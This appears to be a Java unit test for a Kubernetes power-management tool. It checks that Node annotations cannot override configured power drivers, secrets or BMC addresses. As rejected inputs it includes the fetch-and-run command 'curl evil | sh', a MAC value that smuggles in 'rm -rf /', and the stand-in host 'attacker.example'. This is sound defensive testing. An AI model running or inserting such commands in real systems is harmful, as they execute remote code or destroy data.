package io.ecokube.kubernetes;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.ecokube.api.node.DriverSpec;
import io.ecokube.api.node.NodeSpec;
import io.ecokube.api.node.PowerAddress;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/**
 * Node objects are not trusted with power configuration: anyone who may patch a Node (or the node's
 * own kubelet) must not choose its drivers, their settings, secrets or commands.
 */
class NodeHintsTest {
  private static final NodeSpec CONFIGURED =
      NodeSpec.builder("w1")
          .address(
              new PowerAddress(
                  List.of(
                      new DriverSpec("wol", Map.of("broadcast", "10.0.0.255")),
                      new DriverSpec(
                          "ipmi",
                          Map.of(
                              "host",
                              "10.1.0.7",
                              "username",
                              "admin",
                              "password",
                              "k8s:infra/bmc/pw")),
                      new DriverSpec(
                          "redfish",
                          Map.of(
                              "endpoint",
                              "https://10.1.0.7:8443/redfish",
                              "username",
                              "a",
                              "password",
                              "k8s:infra/bmc/pw")))))
          .build();

  private static NodeMapper.Mapping map(Map<String, String> annotations, NodeHintPolicy policy) {
    return NodeMapper.map(
        FakeApiServer.node("w1", true, Map.of(), annotations), Optional.of(CONFIGURED), policy);
  }

  @Test
  void driverChainSettingsAndSecretsFromAnnotationsAreRefusedWithoutEchoingValues() {
    Map<String, String> injected =
        Map.of(
            EcoKubeKeys.POWER_DRIVERS,
            "script",
            EcoKubeKeys.POWER_SETTING_PREFIX + "script.command",
            "curl evil | sh",
            EcoKubeKeys.POWER_SETTING_PREFIX + "ipmi.password",
            "inline:hunter2:secret",
            EcoKubeKeys.POWER_SETTING_PREFIX + "ssh.strictHostKeyChecking",
            "false",
            EcoKubeKeys.POWER_SETTING_PREFIX + "redfish.tlsVerify",
            "false");
    NodeMapper.Mapping m = map(injected, NodeHintPolicy.DEFAULT);
    assertThat(m.node().spec().address()).isEqualTo(CONFIGURED.address());
    assertThat(m.refused())
        .hasSize(5)
        .allSatisfy(r -> assertThat(r).contains("w1").contains("config file"));
    String all = String.join("\n", m.refused());
    assertThat(all)
        .contains(EcoKubeKeys.POWER_DRIVERS)
        .contains(EcoKubeKeys.POWER_SETTING_PREFIX + "ipmi.password")
        .doesNotContain("hunter2")
        .doesNotContain("curl")
        .doesNotContain("script\n");
  }

  @Test
  void unconfiguredNodeStaysUnmanagedWhateverItsAnnotationsSay() {
    NodeMapper.Mapping m =
        NodeMapper.map(
            FakeApiServer.node("w9", true, Map.of(), Map.of(EcoKubeKeys.POWER_DRIVERS, "ssh")),
            Optional.empty(),
            NodeHintPolicy.DEFAULT);
    assertThat(m.node().spec().address().managed()).isFalse();
    assertThat(m.refused()).singleElement().asString().contains(EcoKubeKeys.POWER_DRIVERS);
  }

  @Test
  void macHintReachesOnlyTheConfiguredWolDriverAndMustBeAMac() {
    NodeMapper.Mapping ok =
        map(Map.of(EcoKubeKeys.MAC, "AA:bb:cc:dd:ee:ff"), NodeHintPolicy.DEFAULT);
    assertThat(ok.refused()).isEmpty();
    assertThat(ok.node().spec().address().chain().get(0).settings())
        .containsEntry("mac", "aa:bb:cc:dd:ee:ff")
        .containsEntry("broadcast", "10.0.0.255");
    NodeMapper.Mapping bad =
        map(Map.of(EcoKubeKeys.MAC, "aa:bb; rm -rf /"), NodeHintPolicy.DEFAULT);
    assertThat(bad.node().spec().address()).isEqualTo(CONFIGURED.address());
    assertThat(bad.refused())
        .singleElement()
        .asString()
        .contains(EcoKubeKeys.MAC)
        .doesNotContain("rm -rf");
    NodeMapper.Mapping off =
        map(
            Map.of(EcoKubeKeys.MAC, "aa:bb:cc:dd:ee:ff"),
            NodeHintPolicy.builder().acceptMac(false).build());
    assertThat(off.node().spec().address()).isEqualTo(CONFIGURED.address());
    assertThat(off.refused()).hasSize(1);
  }

  @Test
  void bmcAddressHintOnlyInsideAnAllowedNetwork() {
    NodeMapper.Mapping none =
        map(Map.of(EcoKubeKeys.BMC_ADDRESS, "10.1.0.9"), NodeHintPolicy.DEFAULT);
    assertThat(none.node().spec().address()).isEqualTo(CONFIGURED.address());
    assertThat(none.refused()).singleElement().asString().contains("bmc");

    NodeHintPolicy bmcNet = NodeHintPolicy.builder().allowBmcNetwork("10.1.0.0/24").build();
    NodeMapper.Mapping in = map(Map.of(EcoKubeKeys.BMC_ADDRESS, "10.1.0.9"), bmcNet);
    assertThat(in.refused()).isEmpty();
    List<DriverSpec> chain = in.node().spec().address().chain();
    assertThat(chain.get(1).settings()).containsEntry("host", "10.1.0.9");
    // Redfish keeps the configured scheme, port and path; only the host changes.
    assertThat(chain.get(2).settings()).containsEntry("endpoint", "https://10.1.0.9:8443/redfish");

    for (String outside : List.of("10.1.1.9", "attacker.example", "127.0.0.1", "10.1.0.9:22")) {
      NodeMapper.Mapping m = map(Map.of(EcoKubeKeys.BMC_ADDRESS, outside), bmcNet);
      assertThat(m.node().spec().address()).as(outside).isEqualTo(CONFIGURED.address());
      assertThat(m.refused()).as(outside).hasSize(1);
    }
  }

  @Test
  void badNetworkIsAClearError() {
    assertThatThrownBy(() -> NodeHintPolicy.builder().allowBmcNetwork("10.1.0.0/33"))
        .hasMessageContaining("10.1.0.0/33")
        .hasMessageContaining("prefix");
    assertThatThrownBy(() -> NodeHintPolicy.builder().allowBmcNetwork("bmc.example/24"))
        .hasMessageContaining("IP literal");
  }
}
